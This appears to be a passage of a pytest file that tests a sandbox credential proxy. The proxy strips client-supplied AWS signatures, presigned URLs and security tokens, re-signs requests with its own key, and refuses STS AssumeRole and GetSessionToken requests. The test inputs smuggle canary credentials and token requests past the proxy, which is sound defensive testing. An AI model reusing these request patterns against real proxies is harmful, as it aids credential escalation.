            assert stat.S_IMODE(key.parent.stat().st_mode) & 0o022 == 0, key.parent
    assert roots[0] != roots[1]
    assert all("BEGIN CERTIFICATE" in root for root in roots)


S3 = Attach.model_validate({"sigv4": {"service": "s3", "region": "eu-west-1"}})
STS = Attach.model_validate({"sigv4": {"service": "sts", "region": "us-east-1"}})
_OWN_SIGNATURE = (
    f"Authorization: AWS4-HMAC-SHA256 Credential={CANARY}/20260101/us-east-1/s3/aws4_request,"
    f" SignedHeaders=host, Signature={CANARY}\r\nX-Amz-Date: 20260101T000000Z\r\nX-Amz-Security-Token: {CANARY}\r\n"
)
_PRESIGNED = f"/bucket/key?X-Amz-Credential={CANARY}&X-Amz-Signature={CANARY}&X-Amz-Date=20260101T000000Z"


@pytest.mark.parametrize(
    ("way", "target", "fields", "body", "reason"),
    [
        pytest.param(S3, "/bucket/key", _OWN_SIGNATURE, "", None, id="CRED-22 a signature in a field"),
        pytest.param(S3, _PRESIGNED, "", "", None, id="CRED-22 a presigned URL"),
        pytest.param(
            S3,
            f"/bucket/key?AWSAccessKeyId={CANARY}&Signature={CANARY}",
            "",
            "",
            None,
            id="CRED-22 one of version 2",
        ),
        pytest.param(STS, "/", _OWN_SIGNATURE, "Action=GetCallerIdentity", None, id="CRED-22 with a body"),
        pytest.param(STS, "/", "", "Action=AssumeRole", "token_request", id="CRED-22 a role in a body"),
        pytest.param(
            STS, "/?Action=GetSessionToken", "", "", "token_request", id="CRED-22 a token in a query"
        ),
        pytest.param(S3, "/bucket?session", "", "", "token_request", id="CRED-22 a session of S3"),
    ],
)
def test_a_signature_of_the_sandboxs_own(
    way: Attach, target: str, fields: str, body: str, reason: str | None
) -> None:
    """Signed anew for the credential's account, service and region, or not at all; of the client's own nothing is left."""

    async def test() -> None:
        scene = Scene(keyed(), tls=True)
        connection = scene.engine.connection
        Lender(lease_of(way)).serve(connection.sandbox, connection.services)
        async with scene:
            method = "POST" if body else "GET"
            more = f"Content-Length: {len(body)}\r\n" if body else ""
            answer = await scene.says(
                f"{method} {target} HTTP/1.1\r\nHost: {HOST}\r\n{fields}{more}\r\n{body}".encode()
            )
            sent = b"".join(stream.written for stream in scene.upstreams)
            assert CANARY.encode() not in sent
            if reason is None:
                scope = f"/{way.sigv4.region}/{way.sigv4.service}/aws4_request" if way.sigv4 else ""
                assert sent.count(b"Credential=AKIDREAL/") == 1
                assert scope.encode() in sent
                assert scene.records.decisions() == [("allow", "rule")]
            else:
                assert f"(reason {reason})".encode() in answer
                assert sent == b""

    run(test())
